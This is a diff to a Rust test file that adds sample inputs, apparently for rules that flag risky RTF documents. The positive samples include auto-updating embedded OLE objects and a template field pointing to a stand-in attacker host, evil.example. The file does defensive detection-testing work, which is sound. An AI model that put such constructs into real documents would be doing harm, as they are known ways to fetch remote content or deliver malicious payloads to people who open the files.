@@ -113,6 +113,7 @@ fn office_rules() -> Vec<RuleSamples> {
                 format!(r"{{\rtf1{{\object\objautlink\objupdate{{\objdata {URL_MONIKER}}}}}}}")
                     .into(),
                 br"{\rtf1{\object\objautlink\objupdate}}".to_vec(),
+                b"\r\n\r\n{\\rtf1{\\object\\objautlink\\objupdate}}".to_vec(),
             ],
             files(&[plain_rtf, r"{\rtf1{\object\objemb\objupdate}}"]),
         ),
@@ -123,6 +124,20 @@ fn office_rules() -> Vec<RuleSamples> {
                     .to_vec(),
             ],
             files(&[plain_rtf, r"{\rtf1{\object\objemb{\objdata 0105}}}"]),
+        ),
+        (
+            "rtf_with_object",
+            files(&[
+                "先生、お願いします。\n{\\rtf1\\ansi{\\object\\objautlink{\\*\\objdata 0105}}}\n",
+                r"{\rt\ansi{\object\objautlink{\*\objdata 0105}}}",
+                r"{\rtf1{\object\objemb{\objdata 0105}}}",
+                r"{\rtf1{\*\template https://evil.example/a}}",
+            ]),
+            files(&[
+                plain_rtf,
+                r"{\rtf1 What is {\object{\objdata?}",
+                r"My paper says {\object\objdata 0105} and no RTF",
+            ]),
         ),
         (
             "macro_document_old",
